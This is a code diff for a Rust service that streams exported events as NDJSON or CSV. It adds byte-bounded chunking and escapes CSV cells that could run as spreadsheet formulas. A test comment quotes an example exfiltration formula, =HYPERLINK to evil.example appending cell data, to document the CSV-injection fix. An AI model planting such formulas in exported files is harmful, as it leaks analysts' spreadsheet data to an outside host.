@@ -1,9 +1,15 @@
 //! Streaming export of query results as NDJSON or CSV (`GET /v1/events` with `Accept`).
 //!
-//! The result is paged through the store with cursors, one page at a time, so an export of
-//! any size holds one page in memory. The first page is read before the response starts, so
-//! a failing store still gets a proper error status; a failure later ends the stream early
-//! (logged), which the client sees as a truncated body.
+//! The result is paged through the store with cursors, one page at a time: a page is encoded
+//! on the blocking pool and dropped before its bytes go out, and the next is read only when the
+//! client has taken them, so an export of any size holds at most one page in memory. A chunk
+//! stops before the event that would take it past `max_page_bytes`; the next page starts after
+//! the last event sent. The first page is read before the response starts, so a failing store
+//! still gets a proper error status; a failure later ends the stream early (logged), which the
+//! client sees as a truncated body.
+//!
+//! CSV cells that a spreadsheet would run as a formula (starting with `=`, `+`, `-`, `@`, a tab
+//! or a carriage return) are prefixed with `'`, as OWASP recommends against CSV injection.
 
 use std::sync::Arc;
 
@@ -11,7 +17,7 @@ use bytes::Bytes;
 use futures::Stream;
 use serde_json::{Map, Value};
 use vigil_event::TenantId;
-use vigil_query::Query;
+use vigil_query::{Cursor, Order, Query};
 use vigil_store::{Page, Store, StoredEvent};
 
 /// Events fetched from the store per page.
@@ -66,8 +72,11 @@ impl ExportFormat {
         }
     }
 
-    fn encode_page(self, events: &[StoredEvent], out: &mut Vec<u8>) {
-        for event in events {
+    /// Appends the events to `out` until the next one would take it past `max_bytes` (the
+    /// first always goes in, so an export makes progress). Returns how many went in.
+    fn encode_events(self, events: &[StoredEvent], out: &mut Vec<u8>, max_bytes: usize) -> usize {
+        for (i, event) in events.iter().enumerate() {
+            let start = out.len();
             match self {
                 Self::Ndjson => {
                     out.extend_from_slice(&event.to_json());
@@ -75,7 +84,12 @@ impl ExportFormat {
                 }
                 Self::Csv => csv_row(event, out),
             }
+            if i > 0 && out.len() > max_bytes {
+                out.truncate(start);
+                return i;
+            }
         }
+        events.len()
     }
 }
 
@@ -86,6 +100,8 @@ struct ExportState {
     query: Query,
     remaining: Option<u64>,
     format: ExportFormat,
+    /// Largest chunk of the body, in bytes.
+    max_chunk_bytes: usize,
     /// The page read before the response started.
     first: Option<Page>,
     header_sent: bool,
@@ -93,7 +109,8 @@ struct ExportState {
 }
 
 /// The export body, starting with `first` (already read with `query`). `cap` limits the total
-/// number of events; `None` exports every match.
+/// number of events; `None` exports every match. Each chunk holds at most `max_chunk_bytes`
+/// (or one event, when that alone is larger).
 pub(crate) fn export_stream(
     store: Arc<dyn Store>,
     tenant: TenantId,
@@ -101,6 +118,7 @@ pub(crate) fn export_stream(
     first: Page,
     cap: Option<u64>,
     format: ExportFormat,
+    max_chunk_bytes: usize,
 ) -> impl Stream<Item = Result<Bytes, std::io::Error>> + Send + 'static {
     let state = ExportState {
         store,
@@ -108,6 +126,7 @@ pub(crate) fn export_stream(
         query,
         remaining: cap,
         format,
+        max_chunk_bytes,
         first: Some(first),
         header_sent: false,
         done: false,
@@ -115,13 +134,6 @@ pub(crate) fn export_stream(
     futures::stream::unfold(state, |mut st| async move {
         if st.done {
             return None;
-        }
-        let mut out = Vec::new();
-        if !st.header_sent {
-            st.header_sent = true;
-            if st.format == ExportFormat::Csv {
-                csv_header(&mut out);
-            }
         }
         let page = match st.first.take() {
             Some(page) => page,
@@ -137,22 +149,97 @@ pub(crate) fn export_stream(
                 }
             },
         };
-        let take = st
-            .remaining
-            .map_or(page.events.len(), |r| page.events.len().min(r as usize));
-        st.format.encode_page(&page.events[..take], &mut out);
+        let header = !std::mem::replace(&mut st.header_sent, true);
+        let (format, order) = (st.format, st.query.order);
+        let (max_bytes, remaining) = (st.max_chunk_bytes, st.remaining);
+        let encoded = tokio::task::spawn_blocking(move || {
+            encode_chunk(format, order, page, header, remaining, max_bytes)
+        })
+        .await;
+        let chunk = match encoded {
+            Ok(chunk) => chunk,
+            Err(e) => {
+                tracing::error!(error = %e, tenant = %st.tenant, "export stopped: encoding failed");
+                st.done = true;
+                return Some((
+                    Err(std::io::Error::other("export stopped: encoding failed")),
+                    st,
+                ));
+            }
+        };
         if let Some(r) = st.remaining.as_mut() {
-            *r -= take as u64;
+            *r -= chunk.sent as u64;
         }
-        match page.next_cursor {
-            Some(cursor) if st.remaining != Some(0) && take == page.events.len() => {
+        match chunk.next {
+            _ if st.remaining == Some(0) => st.done = true,
+            Next::Done => st.done = true,
+            Next::After(cursor) => {
                 st.query.cursor = Some(cursor);
                 st.query.limit = page_limit(st.remaining);
             }
-            _ => st.done = true,
+            Next::Truncated(cursor) => {
+                // The page held more than fits in a chunk: ask for no more than did fit.
+                st.query.cursor = Some(cursor);
+                st.query.limit = page_limit(st.remaining).min(chunk.sent.max(1));
+            }
         }
-        Some((Ok(Bytes::from(out)), st))
+        Some((Ok(Bytes::from(chunk.bytes)), st))
     })
+}
+
+/// One page encoded.
+struct Chunk {
+    bytes: Vec<u8>,
+    /// Events encoded.
+    sent: usize,
+    next: Next,
+}
+
+/// Where the export goes on after a chunk.
+enum Next {
+    /// Nothing left (or the cap was reached).
+    Done,
+    /// The store's next page.
+    After(Cursor),
+    /// After the last event of the chunk: the page did not fit in one.
+    Truncated(Cursor),
+}
+
+/// Encodes as much of `page` (read in `order`) as `remaining` and `max_bytes` allow (the CSV
+/// header first when `header`), then drops the page.
+fn encode_chunk(
+    format: ExportFormat,
+    order: Order,
+    page: Page,
+    header: bool,
+    remaining: Option<u64>,
+    max_bytes: usize,
+) -> Chunk {
+    let mut bytes = Vec::new();
+    if header && format == ExportFormat::Csv {
+        csv_header(&mut bytes);
+    }
+    let take = remaining.map_or(page.events.len(), |r| {
+        page.events
+            .len()
+            .min(usize::try_from(r).unwrap_or(usize::MAX))
+    });
+    let sent = format.encode_events(&page.events[..take], &mut bytes, max_bytes);
+    let next = if sent < take {
+        match sent.checked_sub(1).and_then(|i| page.events.get(i)) {
+            Some(last) => Next::Truncated(Cursor {
+                order,
+                time: last.time,
+                seq: last.seq,
+            }),
+            None => Next::Done,
+        }
+    } else if sent < page.events.len() {
+        Next::Done // the cap cut the page
+    } else {
+        page.next_cursor.map_or(Next::Done, Next::After)
+    };
+    Chunk { bytes, sent, next }
 }
 
 /// The store page size for an export with `remaining` events still to send.
@@ -201,13 +288,27 @@ fn cell_text(value: &Value) -> String {
     }
 }
 
+/// One CSV field: a cell a spreadsheet would run as a formula gets a leading `'` (see
+/// [`formula_safe`]), then RFC 4180 quoting when it holds a comma, quote, CR or LF.
 pub(crate) fn csv_field(text: &str, out: &mut Vec<u8>) {
+    let text = formula_safe(text);
     if text.contains([',', '"', '\r', '\n']) {
         out.push(b'"');
         out.extend_from_slice(text.replace('"', "\"\"").as_bytes());
         out.push(b'"');
     } else {
         out.extend_from_slice(text.as_bytes());
+    }
+}
+
+/// `text`, prefixed with `'` when it starts with a character that makes a spreadsheet treat
+/// the cell as a formula (`=`, `+`, `-`, `@`, tab, CR): event fields are attacker-controlled,
+/// and an exported `=HYPERLINK(…)` must open as text (OWASP, CSV injection).
+fn formula_safe(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        std::borrow::Cow::Owned(format!("'{text}"))
+    } else {
+        std::borrow::Cow::Borrowed(text)
     }
 }
 
@@ -246,6 +347,100 @@ mod tests {
             csv_field(text, &mut out);
             assert_eq!(String::from_utf8(out.clone()).unwrap(), expected);
         }
+    }
+
+    /// Regression: cells were exported verbatim, so an event field such as
+    /// `=HYPERLINK("http://evil.example/?"&A1,"open")` ran as a formula when an analyst opened
+    /// the export in a spreadsheet. Cells starting with `=`, `+`, `-`, `@`, tab or CR now get a
+    /// leading `'`; RFC 4180 quoting still applies on top.
+    #[test]
+    fn csv_cells_that_look_like_formulas_are_neutralised() {
+        let mut out = Vec::new();
+        for (text, expected) in [
+            ("=1+1", "'=1+1"),
+            ("+41 22", "'+41 22"),
+            ("-5", "'-5"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\tx", "'\tx"),
+            ("\rx", "\"'\rx\""),
+            (
+                "=HYPERLINK(\"http://x/\",\"a\")",
+                "\"'=HYPERLINK(\"\"http://x/\"\",\"\"a\"\")\"",
+            ),
+            ("a=b", "a=b"),
+            ("'quoted", "'quoted"),
+        ] {
+            out.clear();
+            csv_field(text, &mut out);
+            assert_eq!(
+                String::from_utf8(out.clone()).unwrap(),
+                expected,
+                "{text:?}"
+            );
+        }
+    }
+
+    fn stored(seq: u64, body: Value) -> StoredEvent {
+        StoredEvent {
+            seq,
+            time: vigil_event::Timestamp::from_nanos(seq as i64 * 1_000),
+            canonical: serde_json::to_vec(&body).unwrap(),
+            hash: [0; 32],
+        }
+    }
+
+    /// A chunk stops before the event that would take it past the byte bound (the first event
+    /// always goes in), and the export goes on after the last event sent.
+    #[test]
+    fn chunks_are_bounded_in_bytes() {
+        let events: Vec<StoredEvent> = (1..=5)
+            .map(|i| stored(i, json!({"id": format!("e-{i}"), "pad": "x".repeat(100)})))
+            .collect();
+        let line = {
+            let mut out = Vec::new();
+            ExportFormat::Ndjson.encode_events(&events[..1], &mut out, usize::MAX);
+            out.len()
+        };
+        let page = Page {
+            events: events.clone(),
+            next_cursor: None,
+        };
+        let chunk = encode_chunk(
+            ExportFormat::Ndjson,
+            Order::Asc,
+            page,
+            false,
+            None,
+            line * 2 + 1,
+        );
+        assert_eq!(chunk.sent, 2);
+        assert!(chunk.bytes.len() <= line * 2 + 1);
+        match chunk.next {
+            Next::Truncated(c) => {
+                assert_eq!((c.order, c.seq, c.time), (Order::Asc, 2, events[1].time))
+            }
+            _ => panic!("expected a truncated chunk"),
+        }
+        let page = Page {
+            events: events.clone(),
+            next_cursor: None,
+        };
+        let chunk = encode_chunk(ExportFormat::Csv, Order::Desc, page, true, Some(3), 1);
+        assert_eq!(chunk.sent, 1, "one event always goes in");
+        let page = Page {
+            events,
+            next_cursor: None,
+        };
+        let chunk = encode_chunk(
+            ExportFormat::Ndjson,
+            Order::Desc,
+            page,
+            false,
+            Some(3),
+            usize::MAX,
+        );
+        assert_eq!(chunk.sent, 3);
+        assert!(matches!(chunk.next, Next::Done));
     }
 
     #[test]
